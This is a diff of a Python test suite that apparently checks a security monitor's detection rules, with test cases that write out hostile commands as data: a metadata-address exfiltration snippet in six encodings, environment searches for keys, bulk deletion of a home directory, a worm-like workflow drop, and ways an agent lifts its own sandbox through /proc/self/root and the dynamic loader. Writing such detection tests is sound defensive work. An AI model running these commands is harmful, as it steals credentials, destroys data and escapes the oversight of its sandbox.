@@ -103,7 +103,7 @@ def test_a_worm_that_brings_a_runtime_and_a_scanner(incident: Incident) -> None:
     script += 'sh("mkdir -p $INIT_CWD/.github/workflows; '
     script += 'echo x > $INIT_CWD/.github/workflows/discussion.yaml");\n'
     package(stage, script)
-    rules = ("execution.download-piped-to-shell", "installs.second-runtime")
+    rules: tuple[str, ...] = ("execution.download-piped-to-shell", "installs.second-runtime")
     rules += ("installs.secret-scanner", "egress.cloud-metadata", "installs.writes-elsewhere")
     incident(rules, INSTALL)
     assert stage.metadata == b""
@@ -155,7 +155,12 @@ def test_the_metadata_address_in_six_encodings(incident: Incident) -> None:
         "import socket, sys, time; f = socket.AF_INET6 if ':' in sys.argv[1] else socket.AF_INET;"
         "s = socket.socket(f); s.connect((sys.argv[1], 80)); time.sleep(0.4); s.send(b'stolen')"
     )
-    spelled = ("169.254.169.254", "0xA9FEA9FE", "2852039166", "0251.0376.0251.0376")
+    spelled: tuple[str, ...] = (
+        "169.254.169.254",
+        "0xA9FEA9FE",
+        "2852039166",
+        "0251.0376.0251.0376",
+    )
     spelled += ("169.254.43518", "::ffff:a9fe:a9fe")
     steps = [f'python3 -c "{code}" {spelling}; exit $?' for spelling in spelled]
     asked = "curl -s -m 1 http://169.254.43518/latest/; true"
@@ -167,7 +172,7 @@ def test_the_metadata_address_in_six_encodings(incident: Incident) -> None:
 def test_the_removal_of_a_home(incident: Incident) -> None:
     """rm is killed at its work: most of the home is still there."""
     stage = incident.stage
-    for directory in range(40):
+    for directory in range(24):
         documents = stage.home / "documents" / f"{directory:02}"
         documents.mkdir(parents=True)
         for number in range(500):
@@ -226,21 +231,19 @@ def test_commands_that_tear_down_or_open_up(incident: Incident) -> None:
     assert {path.name for path in stage.effects.iterdir()} == {"dropdb"}
 
 
-def test_the_environment_searched_for_keys(incident: Incident) -> None:
-    """It is told, and told only."""
-    run = incident(("secrets.environment-searched",), "printenv | grep KEY; true")
-    assert run.steps == [0]
-
-
-def test_an_agent_that_lifts_its_own_sandbox(incident: Incident) -> None:
-    """By another root, then by the loader: both are told."""
+def test_a_search_for_keys_and_a_sandbox_lifted(incident: Incident) -> None:
+    """By another root, then by the loader: all of it is told, and goes on."""
     loader = "$(ls /lib64/ld-linux-x86-64.so.2 /lib/ld-linux-aarch64.so.1 2>/dev/null | head -1)"
     run = incident(
-        ("execution.other-root-by-shell", "execution.through-the-loader"),
+        (
+            *("secrets.environment-searched", "execution.other-root-by-shell"),
+            "execution.through-the-loader",
+        ),
+        "printenv | grep KEY; true",
         "/proc/self/root/usr/bin/id > /dev/null; exit $?",
         f"{loader} /usr/bin/id > /dev/null; exit $?",
     )
-    assert run.steps == [0, 0]
+    assert run.steps == [0, 0, 0]
 
 
 def test_keys_collected_by_a_script(incident: Incident) -> None:
